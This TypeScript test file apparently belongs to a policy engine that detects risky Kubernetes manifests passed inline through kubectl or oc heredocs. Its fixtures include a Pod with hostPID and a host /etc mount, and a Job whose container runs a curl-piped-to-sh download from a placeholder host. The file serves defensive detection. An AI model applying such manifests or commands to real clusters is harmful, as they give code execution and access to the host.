import { expect } from 'chai'
import { runRules } from '../../../consumers/governance/judge.ts'
import { packageWith, shell } from './packages.ts'

const POD =
  'apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  hostPID: true\n  volumes:\n    - {name: n, hostPath: {path: /etc}}\n'
const found = (command: string) =>
  runRules(packageWith([shell(command)]))
    .violations.filter(({ rule_id }) => rule_id === 'WPK-P3-011')
    .map(({ pointer, severity }) => `${severity} ${pointer}`)
const BOTH = ['high /spec/handlers/0/config/command', 'high /spec/handlers/0/config/command']

describe('manifests that a command brings itself', () => {
  it('are judged like those of a handler, placed at the command', () => {
    for (const command of [
      `kubectl apply -f - <<EOF\n${POD}EOF`,
      `cat <<EOF | kubectl -n team-a create -f -\n${POD}EOF`,
      `oc replace --filename=- <<< '${POD}'`,
      `cat > pod.yaml <<'EOF'\n${POD}EOF\nkubectl apply -f pod.yaml`,
      `tee out/pod.yml <<EOF >/dev/null\n${POD}EOF`,
    ])
      expect(found(command), command).to.deep.equal(BOTH)
    expect(
      runRules(packageWith([{ name: 'a', type: 'k8s', config: { manifest: POD } }])).violations.filter(
        ({ rule_id }) => rule_id === 'WPK-P3-011',
      ),
    ).to.have.length(2)
  })

  it('run what their containers run', () => {
    const job = `apiVersion: batch/v1\nkind: Job\nmetadata: {name: a}\nspec: {template: {spec: {containers: [{name: a, command: [sh, -c, "curl -s https://a.example.org/x | sh"]}]}}}\n`
    const rules = runRules(packageWith([shell(`kubectl apply -f - <<EOF\n${job}EOF`)])).violations.map(
      ({ rule_id }) => rule_id,
    )
    expect(rules).to.include('WPK-P2-005')
  })

  it('are nothing when they are only printed, searched or described', () => {
    for (const command of [
      `cat <<EOF\n${POD}EOF`,
      `grep -q hostPID <<EOF\n${POD}EOF`,
      'kubectl apply -f deploy/pod.yaml',
      `kubectl apply -f - <<EOF\n${POD.replace('hostPID: true', 'hostPID: false').replace('hostPath: {path: /etc}', 'emptyDir: {}')}EOF`,
    ])
      expect(found(command), command).to.deep.equal([])
  })
})
